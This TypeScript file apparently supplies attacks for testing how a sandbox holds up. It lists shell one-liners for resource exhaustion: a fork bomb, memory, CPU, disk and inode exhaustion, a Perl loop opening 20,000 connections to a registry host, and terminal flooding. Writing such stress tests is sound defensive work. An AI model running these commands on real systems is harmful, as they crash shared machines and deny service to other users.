export interface Attack {
  /** Follows "a sandbox": "forks without end". */
  readonly name: string;
  /** One line for the shell, that goes on until it is ended. */
  line(target: { registryHost: string; registryPort: number }): string;
}

/** 20 processes of 1,000: more than one may have open files. */
const CONNECTIONS =
  "for (1..20) { next if fork; for (1..1000) { socket(my $s, 2, 1, 0); connect($s, $to); push @s, $s } sleep 600; exit } sleep 600";

/** What somebody with a terminal may try on the machine and on whoever is beside them. */
export const ATTACKS: readonly Attack[] = [
  { name: "forks without end", line: () => "bomb() { bomb | bomb & }; bomb" },
  { name: "takes all memory, again and again", line: () => "while :; do head -c 4G /dev/zero | tail -n 1; done" },
  { name: "computes on every processor", line: () => "for i in $(seq 16); do yes > /dev/null & done; wait" },
  { name: "fills the disk", line: () => "while :; do cat /dev/zero > /var/lib/docker/big; sleep 0.1; done" },
  {
    name: "makes files without end",
    line: () => "mkdir -p many && cd many && while :; do seq $((n += 5000)) | xargs touch; done",
  },
  {
    name: "opens 20,000 connections",
    line: ({ registryHost, registryPort }) =>
      `perl -MSocket -e 'my $to = pack_sockaddr_in(${registryPort}, inet_aton("${registryHost}")); ${CONNECTIONS}'`,
  },
  {
    name: "floods its terminal",
    line: () => "yes 0123456789012345678901234567890123456789012345678901234567890123456789",
  },
];
